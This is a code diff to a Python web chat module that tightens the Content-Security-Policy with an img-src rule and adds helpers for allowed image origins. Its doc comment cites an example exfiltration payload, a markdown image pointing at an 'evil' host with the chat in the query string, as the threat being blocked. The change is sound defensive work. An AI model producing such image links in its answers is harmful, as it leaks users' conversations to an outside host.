@@ -11,6 +11,10 @@ Why the headers look the way they do:
 - `Referrer-Policy: no-referrer`: the access key is in the URL and must not leak to linked sites.
 - The page and its files go out compressed with per-encoding ETags (chinwag/http/assets.py), and
   its scripts are `async`, so a first visit is light and parsing never waits for a script.
+- `img-src` (and `media-src`): images load only from the page's own origin, `data:`/`blob:`, the
+  logo's origin and the client's `imageOrigins`, so a model answer such as
+  `![x](http://evil/?c=<chat>)` cannot make the browser call that host; talk.js renders such
+  images as links (the CSP is the backstop if a renderer ever lets one through).
 
 `GET /widget.js` is the embeddable launcher (static/widget.js); `?embed=1` is the talk page as
 the widget's panel (no page header: the panel has its own, with the title and a close button).
@@ -24,6 +28,7 @@ import secrets
 from functools import cache
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 from markupsafe import Markup
 from quart import Blueprint, Response, render_template, request
@@ -54,6 +59,8 @@ _COLOR = re.compile(
 _FRAME_SOURCE = re.compile(r"^('self'|[a-zA-Z][a-zA-Z0-9+.-]*:(//[^\s;,']+)?|[^\s;,':]+(:\d+)?)$")
 # Images larger than this (bytes, after data-URL encoding) are refused by the page itself.
 MAX_IMAGE_BYTES = 5 * 1024 * 1024
+# A host name or IP literal as it may appear in a CSP source (brackets for IPv6).
+_HOST = re.compile(r"^(\[[0-9a-f:.]+\]|[a-z0-9.-]+)$")
 
 
 def _service() -> Any:
@@ -108,10 +115,41 @@ def frame_ancestors(origins: list[str]) -> str:
     return " ".join(["'self'", *sources])
 
 
-def _security_headers(response: Response, nonce: str, ancestors: str) -> Response:
+def _origin(url: str | None) -> str | None:
+    """`scheme://host[:port]` of an http(s) URL (lower case, no credentials), else None."""
+    if not url:
+        return None
+    try:
+        parts = urlsplit(url.strip())
+        port = parts.port
+    except ValueError:
+        return None
+    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
+        return None
+    host = parts.hostname.lower()
+    host = f"[{host}]" if ":" in host else host
+    if not _HOST.match(host):
+        return None
+    return f"{parts.scheme.lower()}://{host}" + (f":{port}" if port else "")
+
+
+def image_origins(params: ClientParameters | None) -> list[str]:
+    """The origins besides the page's own that images may load from: the logo's origin and
+    the client's `imageOrigins` (each checked again: they become CSP sources)."""
+    if params is None:
+        return []
+    found = [_origin(params.logo_image_url), *(_origin(o) for o in params.image_origins)]
+    return list(dict.fromkeys(o for o in found if o))
+
+
+def _security_headers(
+    response: Response, nonce: str, ancestors: str, images: list[str] | None = None
+) -> Response:
+    image_sources = " ".join(["'self'", "data:", "blob:", *(images or [])])
     response.headers["Content-Security-Policy"] = (
         f"frame-ancestors {ancestors}; "
         f"script-src 'nonce-{nonce}' 'strict-dynamic' 'unsafe-inline' https: http:; "
+        f"img-src {image_sources}; media-src 'self' data: blob:; "
         "object-src 'none'; base-uri 'none'"
     )
     response.headers["Referrer-Policy"] = "no-referrer"
@@ -139,6 +177,7 @@ def page_config(
         else strings["helloSub" if params.suggestion_buttons else "helloSubPlain"],
         "textAreaPlaceholder": params.text_area_placeholder or strings["placeholder"],
         "logoImageUrl": params.logo_image_url,
+        "imageOrigins": image_origins(params),
         "suggestionButtons": to_builtins(params.suggestion_buttons),
         "customScripts": params.custom_scripts or "",
         "debug": params.debug,
@@ -169,7 +208,18 @@ async def _notice(
         notice={"language": language, "expiredAt": expired_at, "template": strings["expiredAt"]},
     )
     ancestors = frame_ancestors(params.allowed_frame_origins) if params else "*"
-    return _security_headers(compressed_page(request, body, status), nonce, ancestors)
+    return _security_headers(
+        compressed_page(request, body, status), nonce, ancestors, image_origins(params)
+    )
+
+
+def _continue_config(client: ChatClient, session: Session, language: str) -> dict[str, Any]:
+    """ "Continue on Telegram / WhatsApp" (chinwag.http.links); nothing when not installed."""
+    try:
+        from chinwag.http.links import talk_page_config
+    except ImportError:
+        return {"continueOn": [], "chatLinked": False}
+    return talk_page_config(client, session, language)
 
 
 @blueprint.get("/chat/<access_key>")
@@ -203,6 +253,7 @@ async def talk_page(access_key: str) -> Response:
     config = page_config(access_key, session, params, language)
     config["languageSource"] = language_source
     config["embed"] = embed_mode()
+    config.update(_continue_config(client, session, language))
     body = await render_template(
         "talk.html",
         language=language,
@@ -217,7 +268,9 @@ async def talk_page(access_key: str) -> Response:
         embed=config["embed"],
     )
     response = compressed_page(request, body, 200)
-    return _security_headers(response, nonce, frame_ancestors(params.allowed_frame_origins))
+    return _security_headers(
+        response, nonce, frame_ancestors(params.allowed_frame_origins), image_origins(params)
+    )
 
 
 @blueprint.get(f"{ASSET_PREFIX}/<path:filename>")
